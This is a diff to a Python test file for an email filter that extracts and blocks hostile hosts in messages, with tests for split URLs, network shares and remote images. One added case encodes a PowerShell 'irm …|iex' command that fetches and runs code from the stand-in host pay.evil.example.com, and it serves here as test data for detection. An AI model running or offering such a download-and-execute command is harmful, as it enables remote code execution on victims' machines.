@@ -5,6 +5,7 @@ from __future__ import annotations
 import email
 import email.policy
 import os
+from base64 import b64encode
 from email.message import EmailMessage
 from pathlib import Path
 
@@ -91,6 +92,22 @@ CASES: list[tuple[str, list[tuple[str, str]], set[str], set[str]]] = [
         {"pay.evil.example.com"}, set(),
     ),
     (
+        "a text whose lines go on",
+        [("plain; format=flowed; delsp=yes",
+          "Voir https://pay.evil.exam \nple.com/f, https://www.victime.fr. \nexample.com/x")],
+        {"pay.evil.example.com", "www.victime.fr.example.com"}, {"ple.com", "example.com", "www.victime.fr"},
+    ),
+    (
+        "shares elsewhere and near by",
+        [("plain", r"Ouvrez \\pay.evil.example.com@SSL\docs ou \\SRV\commun"), ("html", r'<a href="file://a.example.com/x">x</a>')],
+        {"pay.evil.example.com", "a.example.com"}, set(),
+    ),
+    (
+        "a command to paste",
+        [("plain", f"Win+R : powershell -e {b64encode(f'irm {EVIL}|iex'.encode('utf-16-le')).decode()}")],
+        {"pay.evil.example.com"}, set(),
+    ),
+    (
         "hostile HTML: a link in a link, an empty one, a map, a script, one that is never closed",
         [("plain", "https://www.victime.fr/compte"),
          ("html", f'<a><a href="{EVIL}">https://www.victime.fr/compte</a><a href=""></a><a href="  ">z</a><map>'
@@ -126,6 +143,26 @@ def test_what_is_blocked_already_is_refused_also_where_it_is_only_shown(post: Po
     hidden = [("plain", EVIL), ("html", f'<a href="https://www.franc.example.com/">{EVIL}</a>')]
     assert post.send(alternative(box.address, 90, *hidden), box.address)[0] == 554
     assert post.send(alternative(box.address, 91, ("plain", "Bonjour")), box.address)[0] == 250
+
+
+def test_pictures_of_a_blocked_host_refuse_the_mail_and_are_no_evidence(post: Post, beaune: Commune) -> None:
+    """A newsletter's are those of a service that everybody uses."""
+    box = post.mailbox(beaune, beaune.agent, "agent")
+    shows = [
+        (
+            "html",
+            '<img src="https://images.evil.example.com/logo.png"><a href="https://a.example.com/">ici</a>',
+        )
+    ]
+    assert post.send(alternative(box.address, 80, *shows), box.address)[0] == 250
+    post.wait_count(box, 1)
+    post.settle(1)
+    message = MailMessage.objects.get(message_id__contains="shown80@")
+    assert hosts(message.id, "link") == {"a.example.com"}
+    assert "images.evil.example.com" in hosts(message.id, "shown")
+    post.block("domain", "images.evil.example.com")
+    post.wait_gate(1)
+    assert post.send(alternative(box.address, 81, *shows), box.address)[0] == 554
 
 
 def test_an_address_in_the_text_of_a_document_is_only_shown(post: Post, beaune: Commune) -> None:
